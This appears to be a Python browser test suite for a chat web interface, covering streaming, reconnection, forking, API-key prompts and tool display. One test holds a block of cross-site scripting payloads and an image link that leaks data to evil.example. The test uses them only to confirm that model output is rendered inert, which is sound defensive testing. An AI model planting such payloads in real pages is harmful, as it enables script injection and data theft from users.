"""The web page in a real browser, used as people use it. Skipped where there is none."""

from __future__ import annotations

import asyncio
import json
import re
from itertools import pairwise
from pathlib import Path

import pytest

from server.http_server import running_server
from server.web import chromium
from server.web.chromium import browsing
from server.web.opened_page import ENDED, RECORDER, WAITS, Launch, What, answer, page
from tailrace.ports import ToolContext, ToolOutcome
from tailrace.testing.provider import Break, Offset, Scenario, call, reply, say
from tailrace.tools.typed import TypedTool

pytestmark = pytest.mark.skipif(chromium.PROGRAM is None, reason="needs Chromium: apt-get install chromium")
KEY = "sk-the-key-of-the-page"
WORDS = " ".join(f"word{number}" for number in range(1, 101))
PACED = Scenario(reply=reply(WORDS), pace_s=0.02)  # two seconds
STALLED = Scenario(reply=reply("one two three four five six"), broken=Break("stall", Offset(60, per_cent=True)))


# ── controls ─────────────────────────────────────────────────────────────────────────────────────────────────


async def test_the_controls_have_names_and_the_keyboard_is_enough(devtools: str, tmp_path: Path) -> None:
    async with page(devtools, tmp_path, reply("Hello."), reply("Again.")) as (server, _, tab):
        await tab.find("textbox", "Message")
        for name in ("Send", "Attach files"):
            await tab.find("button", name)
        assert await tab.value("document.activeElement.id") == "message", "one can type at once"
        await tab.write("Message", "Hi.")
        await tab.enter()
        assert await answer(tab) == "Hello."
        assert await tab.value("document.querySelector('#message').value") == ""
        await tab.write("Message", "More.")
        await tab.enter()
        await tab.until_shown("Again.")
        asked = [message["content"] for message in server.provider.requests[1].json()["messages"]]
    assert asked[-3:] == ["Hi.", "Hello.", "More."], "one conversation"
    assert tab.complaints == []


async def test_the_foot_of_the_list_fits(devtools: str, tmp_path: Path) -> None:
    async with page(devtools, tmp_path) as (_, _, tab):
        await tab.size(1280, 800)
        await tab.until("document.querySelector('#version').textContent")
        foot = "document.querySelector('#foot')"
        assert await tab.value(f"{foot}.scrollWidth <= {foot}.clientWidth"), "nothing sticks out"


async def test_a_long_conversation_scrolls_and_the_window_does_not(devtools: str, tmp_path: Path) -> None:
    long = "\n\n".join(f"Line {number}." for number in range(60))
    scrolls = "document.scrollingElement.scrollHeight > innerHeight"
    async with page(devtools, tmp_path, reply(long), reply(long)) as (_, _, tab):
        await tab.size(1280, 800)
        for question in ("Count.", "Again."):
            await tab.send(question)
            await answer(tab)
        assert not await tab.value(scrolls), "a search would lead the message box out of sight"
        run = await tab.value("document.querySelector('a[href*=\"?run=\"]').href")
        await tab.go(run)
        await tab.until("document.querySelector('.replay-view')?.innerText.includes('Line 59.')")
        assert not await tab.value(scrolls), "one scroll bar, not two"


# ── streaming ────────────────────────────────────────────────────────────────────────────────────────────────


async def test_text_appears_as_it_comes(devtools: str, tmp_path: Path) -> None:
    async with page(devtools, tmp_path, PACED) as (_, _, tab):
        await tab.send("Count.")
        assert await answer(tab) == WORDS
        seen = await tab.value("seen")
    assert len(seen) > 5, "of a hundred pieces in two seconds, at the pace of the screen"
    assert all(later.startswith(earlier) for earlier, later in pairwise(seen))
    assert tab.complaints == []


async def test_a_question_that_waits_for_a_connection_is_being_sent(devtools: str, tmp_path: Path) -> None:
    doing = "document.querySelector('.activity')?.textContent.startsWith"
    hold = "fetch(`/sessions/other${number}/stream`, { signal: held.signal }).catch(() => {})"
    async with page(devtools, tmp_path, "silence") as (server, _, tab):
        await tab.until_shown("How can I help?")
        await tab.value("window.held = new AbortController(); undefined")
        await tab.value(f"for (let number = 0; number < 6; number++) {hold}; undefined")  # as many as a browser has
        await tab.send("Anybody there?")
        await tab.until(f"{doing}('Sending')")
        await tab.until(
            f"{doing}('Still sending: the server is slow, or other windows of this browser have taken all')"
        )
        waited_s = await tab.value("Number(/(\\d+) s$/.exec(document.querySelector('.activity').textContent)?.[1])")
        assert waited_s >= 2, "counted from when it was sent"
        assert (await server.json("GET", "/runs"))[1]["data"] == [], "nobody thinks about it yet"
        await tab.value("held.abort()")
        await server.provider.request()
        await tab.until(f"{doing}('Thinking')")


async def test_stop_ends_the_run_and_keeps_what_was_shown(devtools: str, tmp_path: Path) -> None:
    async with page(devtools, tmp_path, STALLED) as (server, _, tab):
        assert await tab.value("document.querySelector('#send').title") == "Send"
        await tab.send("Count.")
        await tab.until_shown("three")
        await tab.press("Stop")
        shown = await answer(tab)
        note = await tab.text("article .note")
        assert await tab.value("document.querySelector('#send').title") == "Send"
        facts = await tab.value("document.querySelector('.run-facts').textContent")
        _, runs = await server.json("GET", "/runs")
    assert shown.startswith("one two three")
    assert note == "Stopped"
    assert re.search(r"~\d+ in, ~\d+ out", facts), facts  # nobody has counted them
    assert [run["status"] for run in runs["data"]] == ["stopped"]
    assert tab.complaints == []


async def test_stop_works_while_the_provider_is_silent(devtools: str, tmp_path: Path) -> None:
    async with page(devtools, tmp_path, "silence") as (server, _, tab):
        await tab.send("Anybody there?")
        await server.provider.request()
        await tab.press("Stop")
        await tab.until_shown("Stopped")
        _, runs = await server.json("GET", "/runs")
    assert [run["status"] for run in runs["data"]] == ["stopped"]


async def test_a_reload_in_the_middle_goes_on_without_loss_or_doubling(devtools: str, tmp_path: Path) -> None:
    async with page(devtools, tmp_path, PACED) as (server, _, tab):
        await tab.send("Count.")
        await tab.until_shown("word10 ")
        server.provider.flowing.clear()  # a busy machine takes longer to load a page than an answer takes
        await tab.reload()
        await tab.until_shown("word10 ")
        server.provider.flowing.set()
        assert await answer(tab) == WORDS
        seen = await tab.value("seen")
        articles = await tab.value("document.querySelectorAll('article').length")
        question = await tab.text(".question")
    assert len(seen) > 1, "it was still coming when the page was back"
    assert all(WORDS.startswith(shown) for shown in seen)
    assert (articles, question) == (1, "Count.")
    assert len(server.provider.requests) == 1
    assert tab.complaints == []


async def test_a_lost_connection_is_taken_up_where_it_broke(devtools: str, tmp_path: Path) -> None:
    async with page(devtools, tmp_path, PACED) as (server, _, tab):
        await tab.send("Count.")
        for word in ("word10 ", "word30 "):
            await tab.until_shown(word)
            for stream in tuple(server.pipeline._streams):
                stream.drop()
            await tab.until_shown("Reconnecting")
        assert await answer(tab) == WORDS
        seen = await tab.value("seen")
        status = await tab.text("#status")
    assert all(WORDS.startswith(shown) for shown in seen)
    assert status == ""


async def test_two_tabs_show_the_same_run(devtools: str, tmp_path: Path) -> None:
    async with page(devtools, tmp_path, PACED) as (server, browser, tab):
        await tab.send("Count.")
        await tab.until_shown("word5 ")
        server.provider.flowing.clear()
        other = await browser.tab(await tab.value("location.href"), script=RECORDER)
        await other.until_shown("word5 ")
        server.provider.flowing.set()
        assert await answer(tab) == await answer(other) == WORDS
        assert len(await other.value("seen")) > 1


# ── forks ────────────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("width", [360, 1280])
async def test_a_turn_is_forked_and_both_conversations_lead_to_each_other(
    devtools: str, tmp_path: Path, width: int
) -> None:
    async with page(devtools, tmp_path, reply("Left."), reply("Right.")) as (server, _, tab):
        await tab.call("Emulation.setDeviceMetricsOverride", width=width, height=640, deviceScaleFactor=1, mobile=False)
        await tab.send("Which way?")
        assert await answer(tab) == "Left."
        await tab.press("Fork from here")
        await tab.write("Next message", "And if not?")
        assert await tab.value("document.documentElement.scrollWidth <= innerWidth"), "nothing sticks out"
        await tab.follow(tab.press("Send in a new conversation"))
        await tab.until_shown("Forked from another conversation")
        assert await answer(tab) == "Right."
        earlier = await tab.value("document.querySelector('details.earlier').textContent")
        questions = await tab.value("[...document.querySelectorAll('article > .question')].map((q) => q.textContent)")
        await tab.follow(tab.value("document.querySelector('.fork a').click()"))
        await tab.until_shown("Forked here: And if not?")
        assert await tab.text("article .answer") == "Left."
        await tab.follow(tab.value("document.querySelector('.fork a').click()"))
        await tab.until_shown("Right.")
        asked = [message["content"] for message in server.provider.requests[-1].json()["messages"]]
    assert asked[-3:] == ["Which way?", "Left.", "And if not?"]
    assert earlier == "Earlier conversationWhich way?Left."
    assert questions == ["And if not?"]
    assert tab.complaints == []


async def test_a_question_is_asked_again_in_its_place(devtools: str, tmp_path: Path) -> None:
    async with page(devtools, tmp_path, reply("Left."), reply("Right."), reply("Up.")) as (server, _, tab):
        await tab.send("Which way?")
        assert await answer(tab) == "Left."
        await tab.reload()
        await tab.until_shown("Left.")
        for number, words in ((2, "Right."), (3, "Up.")):
            await tab.press("Regenerate")
            await tab.until_shown(words)
            await tab.until_shown(f"{number} of {number}")
            await tab.until(ENDED)
        await tab.press("Previous version")
        await tab.until_shown("2 of 3")
        shown = await tab.text("main")
        assert "Right." in shown
        assert "Left." not in shown
        assert "Up." not in shown
    asked = [[each["content"] for each in request.json()["messages"][1:]] for request in server.provider.requests]
    assert asked == [["Which way?"]] * 3
    assert tab.complaints == []


# ── the key ──────────────────────────────────────────────────────────────────────────────────────────────────


async def test_a_key_that_may_not_use_the_page_is_told_apart_and_another_asked_for(
    devtools: str, tmp_path: Path
) -> None:
    config = "server: {keys: [{name: ci, key_env: CI_KEY, scopes: [models]}]}\n"
    env = {"TAILRACE_API_KEY": KEY, "CI_KEY": "sk-for-models-alone"}
    async with page(devtools, tmp_path, env=env, config=config) as (_, _, tab):
        await tab.until("document.querySelector('#key-dialog').open")
        await tab.write("API key", "sk-for-models-alone")
        await tab.press("Continue")
        words = "This page needs a key with the scope runs."
        await tab.until(f"document.querySelector('#key-dialog [role=alert]').textContent === '{words}'")
        await tab.write("API key", KEY)
        await tab.press("Continue")
        await tab.until_shown("How can I help?")
        assert not await tab.value("document.querySelector('#key-dialog').open")


async def test_the_key_is_asked_for_once_and_kept_for_the_tab(devtools: str, tmp_path: Path) -> None:
    asked = "document.querySelector('#key-dialog').open"
    env = {"TAILRACE_API_KEY": KEY}
    async with page(devtools, tmp_path, reply("Hello."), reply("Again."), env=env) as (server, browser, tab):
        await tab.until(asked)
        assert await tab.text("#key-dialog [role=alert]") == ""
        await tab.write("API key", "wrong")
        await tab.press("Continue")
        await tab.until("document.querySelector('#key-dialog [role=alert]').textContent === 'This key was refused.'")
        assert await tab.value("document.querySelector('#key').value") == ""
        await tab.write("API key", KEY)
        await tab.press("Continue")
        await tab.until_shown("How can I help?")
        assert await tab.value("document.activeElement.id") == "message"
        await tab.send("Hi.")
        assert await answer(tab) == "Hello."
        await tab.reload()
        await tab.until_shown("Hello.")
        await tab.send("More.")
        await tab.until_shown("Again.")
        assert not await tab.value(asked)
        other = await browser.tab(await tab.value("location.href"))
        await other.until(asked)
        assert "Hello." not in await other.text("#log")
        kept = await tab.value("JSON.stringify([{ ...localStorage }, document.cookie, location.href])")
    assert KEY not in kept
    assert len(server.provider.requests) == 2


# ── what models write ────────────────────────────────────────────────────────────────────────────────────────

HOSTILE = """<script>window.pwned = 1; alert(1)</script>

<img src=x onerror="window.pwned = 2"> <svg onload="window.pwned = 3"> <iframe src="https://evil.example/frame"></iframe>

[click](javascript:window.pwned=4) [data](data:text/html,<script>alert(5)</script>) ![leak](https://evil.example/leak?x=1)

<style>@import url(https://evil.example/style.css)</style> <base href="https://evil.example/">

```html
<script>window.pwned = 6</script>
```

| <b onclick="window.pwned=7">a</b> |
|---|
| <meta http-equiv=refresh content="0;url=https://evil.example/"> |
"""
ONE_LINE = '<img src=x onerror="window.pwned=8"><script>window.pwned=9</script>'
HARMLESS = {
    *("ARTICLE", "DIV", "P", "UL", "OL", "LI", "PRE", "CODE", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "A"),
    *("SECTION", "BUTTON", "STRONG", "EM", "SPAN", "DETAILS", "SUMMARY", "svg", "use"),
}


async def test_J123_what_is_shown_is_never_run(devtools: str, tmp_path: Path) -> None:
    script = (reply(say(HOSTILE), call("launch", {"what": ONE_LINE})), reply(HOSTILE))
    async with page(devtools, tmp_path, *script, tools=(Launch(),)) as (server, _, tab):
        await tab.send(HOSTILE)
        await tab.until(WAITS)
        await tab.press("Approve once")
        await answer(tab)
        shown = await tab.text("#log")
        for _ in range(2):  # as it came, and as it is found again
            tags = set(await tab.value("[...document.querySelectorAll('#log *')].map((node) => node.tagName)"))
            links = await tab.value("[...document.querySelectorAll('.answer a')].map((node) => node.protocol)")
            assert tags <= HARMLESS
            assert set(links) <= {"https:"}
            assert await tab.value("window.pwned ?? null") is None
            await tab.reload()
            await tab.until(ENDED)
    assert shown.count("<script>window.pwned = 1; alert(1)</script>") == 3, "in the question and both answers"
    assert shown.count(ONE_LINE) == 2, "in the line of the approval and that of the tool"
    assert tab.dialogs == []
    assert all(url.startswith((server.url, "data:image/svg")) for url in tab.requests)
    assert not [complaint for complaint in tab.complaints if "Content Security Policy" in complaint]


# ── tools ────────────────────────────────────────────────────────────────────────────────────────────────────


class Hold(TypedTool[What]):
    """Runs until the test lets it go."""

    name = "hold"
    description = "Hold on."
    Args = What

    def __init__(self) -> None:
        super().__init__()
        self.go_on = asyncio.Event()

    async def execute(self, args: What, context: ToolContext) -> ToolOutcome:
        if args.what == "third":
            await self.go_on.wait()
        return ToolOutcome("held")


async def test_a_reload_finds_texts_and_tools_in_the_order_in_which_they_came(devtools: str, tmp_path: Path) -> None:
    rounds = [reply(say(f"The {what} step."), call("hold", {"what": what})) for what in ("first", "second", "third")]
    hold = Hold()
    waiting = "/third step\\.\\s+hold\\s+third$/.test(document.querySelector('.answer')?.innerText)"
    async with page(devtools, tmp_path, *rounds, reply("All done."), tools=(hold,)) as (_, _, tab):
        await tab.send("Three steps.")
        await tab.until(waiting)
        running = await tab.text(".answer")
        await tab.reload()
        await tab.until(waiting)
        assert await tab.text(".answer") == running
        hold.go_on.set()
        whole = await answer(tab)
        await tab.reload()
        assert await answer(tab) == whole
    steps = [line for line in whole.splitlines() if re.fullmatch("The .*|hold|All .*", line)]
    assert [step.split(" ")[0] for step in steps] == ["The", "hold", "The", "hold", "The", "hold", "All"]


# ── failures ─────────────────────────────────────────────────────────────────────────────────────────────────


async def test_that_the_server_cannot_be_reached_is_taken_back_when_it_can(devtools: str, tmp_path: Path) -> None:
    conditions = {"latency": 0, "downloadThroughput": -1, "uploadThroughput": -1}
    async with page(devtools, tmp_path, reply("Hello.")) as (_, _, tab):
        await tab.until_shown("How can I help?")
        await tab.call("Network.emulateNetworkConditions", offline=True, **conditions)
        await tab.send("Anybody?")
        await tab.until_shown("The server cannot be reached.")
        await tab.call("Network.emulateNetworkConditions", offline=False, **conditions)
        await tab.until("document.querySelector('#status').textContent === ''")
        await tab.press("Send")
        assert await answer(tab) == "Hello."


async def test_a_server_that_is_gone_is_said_and_the_message_kept(devtools: str, tmp_path: Path) -> None:
    async with browsing(devtools) as browser:
        async with running_server(tmp_path, reply("Hello.")) as server:
            tab = await browser.tab(server.url + "/")
        await tab.send("Anybody?")
        await tab.until_shown("The server cannot be reached.")
        assert json.loads(await tab.value("JSON.stringify(document.querySelector('#message').value)")) == "Anybody?"
        assert await tab.value("document.querySelectorAll('article').length") == 0
